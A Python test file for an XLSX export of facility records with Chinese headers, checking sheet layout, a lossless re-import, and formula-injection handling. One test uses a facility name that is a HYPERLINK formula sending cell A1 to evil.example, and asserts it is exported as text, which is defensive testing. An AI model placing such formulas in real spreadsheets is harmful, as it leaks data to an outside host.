"""The XLSX export: one sheet per table, Chinese headers and spellings the importer reads."""

import io

import openpyxl

from tests.uses.test_router import PARKING, uses_url

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def sheets(content: bytes) -> dict[str, list[tuple]]:
    book = openpyxl.load_workbook(io.BytesIO(content), read_only=True)
    try:
        return {sheet.title: list(sheet.iter_rows(values_only=True)) for sheet in book}
    finally:
        book.close()


def test_a_workbook_of_every_table_in_chinese(client, create):
    facility = create()
    assert client.post(uses_url(facility["id"]), json=PARKING).status_code == 201
    sign = {"kind": "identification_plaque", "status": "installed", "installed_on": "2022-05-01"}
    response = client.post(f"/v1/facilities/{facility['id']}/signs", json=sign)
    assert response.status_code == 201, response.text
    response = client.get("/v1/export", params={"format": "xlsx", "code": facility["code"]})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == XLSX
    assert 'filename="facilities.xlsx"' in response.headers["content-disposition"]
    book = sheets(response.content)
    assert list(book) == ["设施", "出入口", "平时用途", "标识"]
    header, row = book["设施"]
    assert header[:4] == ("工程编号", "工程名称", "地址", "行政区划代码")
    values = dict(zip(header, row, strict=True))
    assert values["工程编号"] == facility["code"]
    assert values["建设形式"] == "结建" and values["战时功能"] == "人员掩蔽工程"
    assert values["使用状态"] == "在用"
    assert values["掩蔽人数"] == 8000 and values["经度"] == 117.2281
    assert values["核防护等级"] == "核6" and values["常规武器抗力等级"] == "常6"
    entrances = book["出入口"]
    assert entrances[0] == ("工程编号", "出入口类型", "名称", "无障碍", "经度", "纬度")
    assert [(r[0], r[1], r[3]) for r in entrances[1:]] == [
        (facility["code"], "vehicle", "否"),
        (facility["code"], "pedestrian", "是"),
    ]
    assert book["平时用途"][1][:3] == (facility["code"], "parking", "天鹅湖地下停车场")
    assert book["标识"][1][:3] == (facility["code"], "identification_plaque", "installed")


def test_a_workbook_imports_back_unchanged(client, create, tmp_path):
    facility = create()
    first = client.get("/v1/export", params={"format": "xlsx", "code": facility["code"]})
    path = tmp_path / "台账.xlsx"
    path.write_bytes(first.content)
    created = client.post(
        "/v1/imports", params={"filename": "台账.xlsx"}, content=path.read_bytes()
    )
    job = client.get(f"/v1/imports/{created.json()['id']}").json()
    assert job["status"] == "succeeded", job
    assert (job["summary"]["inserted"], job["summary"]["unchanged"]) == (0, 1)
    second = client.get("/v1/export", params={"format": "xlsx", "code": facility["code"]})
    assert sheets(second.content) == sheets(first.content)


def test_a_name_like_a_formula_is_exported_as_text(client, create, tmp_path):
    name = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
    facility = create(name=name)
    response = client.get("/v1/export", params={"format": "xlsx", "code": facility["code"]})
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    cell = book["设施"]["B2"]
    assert (cell.value, cell.data_type) == (name, "s")
    path = tmp_path / "台账.xlsx"
    path.write_bytes(response.content)
    created = client.post(
        "/v1/imports", params={"filename": "台账.xlsx"}, content=path.read_bytes()
    )
    job = client.get(f"/v1/imports/{created.json()['id']}").json()
    assert (job["status"], job["summary"]["unchanged"]) == ("succeeded", 1), job
